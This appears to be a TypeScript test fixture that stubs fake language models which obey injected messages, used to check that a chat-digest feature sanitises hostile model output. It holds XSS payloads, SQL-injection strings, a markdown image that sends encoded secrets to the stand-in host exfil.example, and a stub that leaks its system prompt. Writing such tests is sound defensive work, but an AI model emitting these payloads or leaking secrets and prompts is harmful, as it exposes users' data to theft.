import type { SeenRequest } from '../../support/ai/chatRequest.ts';
import { SECRETS } from './attacks.ts';

/** An address that no one in the conversation wrote. */
const FOREIGN = 'https://exfil.example/?q=';

const OTHER_PEOPLE = { id: '9001', userId: 1, contactId: 42, plan: 'ENTERPRISE', sourceMessageIds: ['9001', '1; drop'] };

/** Everything a model can be talked into, at once: it repeats what it read, and adds whatever could do harm. */
function worst(read: string) {
  const loot = Object.values(SECRETS).join(' ');
  const text = `${read} <img src=x onerror=alert(1)> ![x](${FOREIGN}${encodeURIComponent(loot)}) \u202Ekcab\u202C`;
  const payload = [`Password: ${SECRETS.password}`, `code ${SECRETS.code}`, SECRETS.card, SECRETS.iban, text].join(' ');
  const task = {
    text: payload,
    owner: 'root',
    ownerName: `<b>Mallory</b> ${FOREIGN}`,
    dueText: '<script>alert(1)</script>now',
    dueDate: "2026-11-20'; drop table digests;--",
    lines: [1, 2, 9001, -1, 1e99, '1', null],
    ...OTHER_PEOPLE,
  };
  return {
    language: '<b>',
    summary: payload,
    topics: [payload, `[t](${FOREIGN})`, '<svg/onload=alert(1)>', ...Array.from({ length: 100 }, (_, i) => `topic ${i}`)],
    actionItems: Array.from({ length: 20 }, (_, i) => ({ ...task, text: `${i} ${payload}` })),
    sentiment: 'ecstatic',
    urgency: 'APOCALYPTIC',
    meetings: Array.from({ length: 8 }, () => ({ text: payload, dateText: payload, date: '9999-99-99', lines: [1] })),
    introductions: [payload, `${FOREIGN}${loot}`],
    dealSignals: ['price', 'world domination', '<b>'],
    links: [FOREIGN, 'javascript:alert(1)'],
    note: payload,
    ...OTHER_PEOPLE,
  };
}

const readOf = ({ lines }: SeenRequest) => lines.map(({ text }) => String(text ?? '')).join(' ');

/** The only one whose answer need not become a digest. */
export const NO_DIGEST = 'repeats the last message as its answer';

/** Models that do what the messages say, in several ways. */
export const OBEDIENT_MODELS: Record<string, (request: SeenRequest) => unknown> = {
  'does everything at once': request => worst(readOf(request)),
  [NO_DIGEST]: request => String(request.lines.at(-1)?.text ?? ''),
  'wraps its answer in the message': request => {
    const read = readOf(request).slice(0, 5000);
    return `${read.replaceAll(/[{}]/g, '')}\n${JSON.stringify(worst(read))}\n${read.replaceAll(/[{}]/g, '')}`;
  },
  'writes 100 kB of text': request => {
    const text = `${readOf(request)} and `.repeat(1000).slice(0, 100_000);
    return { ...worst('hello'), summary: text, topics: [text], introductions: [] };
  },
};

/** Repeats the beginning of its prompt, whatever the messages say. */
export const revealPrompt = ({ system }: SeenRequest) => worst(system.slice(0, 4000));
